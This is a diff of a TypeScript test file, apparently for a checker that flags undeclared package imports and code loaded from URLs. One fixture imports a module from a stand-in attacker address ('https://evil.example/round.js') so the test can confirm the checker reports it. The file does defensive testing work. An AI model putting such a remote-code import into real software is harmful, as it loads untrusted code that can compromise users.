@@ -3,7 +3,7 @@
  */
 import type { Catcher } from '../catchers';
 import { GOOD } from '../packages';
-import { DISCOUNT, manifestWith, nodeTill } from '../projects/node';
+import { manifestWith, nodeTill } from '../projects/node';
 import { pythonTill } from '../projects/python';
 import type { Case, Files, ScriptedBuild } from '../scripted-build';
 
@@ -133,12 +133,12 @@ export const PACKAGES: Case[] = [
   ),
   writes(
     'a package is imported that nothing declares',
-    { 'src/discount.js': `${DISCOUNT}\nexport const load = () => import('${GOOD.name}');\n` },
+    { 'src/colours.js': `export { bold } from '${GOOD.name}';\n` },
     /imports picocolors, which nothing declares/,
   ),
   writes(
     'code is loaded from an address',
-    { 'src/discount.js': `${DISCOUNT}\nexport const load = () => import('https://evil.example/round.js');\n` },
+    { 'src/round.js': "export { round } from 'https://evil.example/round.js';\n" },
     /loads code from a url/,
   ),
   writes(
